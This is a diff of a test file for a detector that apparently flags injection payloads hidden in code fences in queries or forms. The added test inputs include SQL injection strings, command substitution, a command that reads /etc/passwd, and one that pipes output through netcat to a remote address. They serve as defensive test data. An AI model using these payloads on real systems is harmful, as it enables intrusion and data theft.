@@ -44,12 +44,20 @@ describe('set 7 exemptions wrapping a payload', () => {
     expect(carriers(v)).toEqual(ALL);
   });
   // a fence opening a parameter (forms7) holding an odd quote or a substitution: the app's string or shell still runs it
-  it.each(["```\nx' or 1=1--\n```", "```sql\n' or 'a'='a\n```\nwhy?", '```\n$(id)\n```', "```\n'| systeminfo\n```"])('reported in a query or form: %s', (v) => {
+  it.each([
+    "```\nx' or 1=1--\n```",
+    "```sql\n' or 'a'='a\n```\nwhy?",
+    '```\n$(id)\n```',
+    "```\n'| systeminfo\n```",
+    '```\nx& whoami\n```',
+    '```\nx; cat /etc/passwd\n```',
+    '```\nx | nc 203.0.113.9 4444\n```',
+  ])('reported in a query or form: %s', (v) => {
     const hit = carriers(v);
     expect(hit).toContain('query');
     expect(hit).toContain('form');
   });
-  it.each(['```\nconst x = a ?? b;\n```', "```js\nconst s = 'a';\n```\nwhy?"])('clean: %s', (v) => {
+  it.each(['```\nconst x = a ?? b\n```', "```js\nconst s = 'a'\n```\nwhy?"])('clean: %s', (v) => {
     expect(carriers(v)).toEqual([]);
   });
   it.each([
